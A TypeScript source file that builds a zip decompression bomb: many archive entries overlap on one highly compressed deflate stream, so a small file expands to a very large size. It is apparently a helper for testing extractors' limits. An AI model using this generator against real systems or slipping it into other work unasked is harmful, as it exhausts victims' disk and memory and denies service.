import { constants, deflateRawSync } from 'node:zlib';

const megabyte = 1024 * 1024;

/** So many megabytes of one letter as a zip holds them, a thousand times smaller. Each megabyte is packed alike, so it is packed once. */
function packed(megabytes: number): Buffer {
  const one = deflateRawSync(Buffer.alloc(megabyte, 'x'), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  // An empty last block ends the data.
  return Buffer.concat([...Array.from({ length: megabytes }, () => one), Buffer.from([3, 0])]);
}

/** An archive of `parts` that all lie over the same packed data, each of so many megabytes. */
export function archiveBomb(megabytes: number, parts: readonly string[]): Buffer {
  const data = packed(megabytes);
  const [first = ''] = parts;
  const begin = Buffer.alloc(30);
  begin.writeUInt32LE(0x04_03_4b_50, 0);
  begin.writeUInt16LE(8, 8);
  begin.writeUInt32LE(data.length, 18);
  begin.writeUInt32LE(megabytes * megabyte, 22);
  begin.writeUInt16LE(first.length, 26);
  const directory = Buffer.concat(
    parts.flatMap((name) => {
      const entry = Buffer.alloc(46);
      entry.writeUInt32LE(0x02_01_4b_50, 0);
      entry.writeUInt16LE(8, 10);
      entry.writeUInt32LE(data.length, 20);
      entry.writeUInt32LE(megabytes * megabyte, 24);
      entry.writeUInt16LE(name.length, 28);
      return [entry, Buffer.from(name)];
    }),
  );
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06_05_4b_50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(begin.length + first.length + data.length, 16);
  return Buffer.concat([begin, Buffer.from(first), data, directory, end]);
}
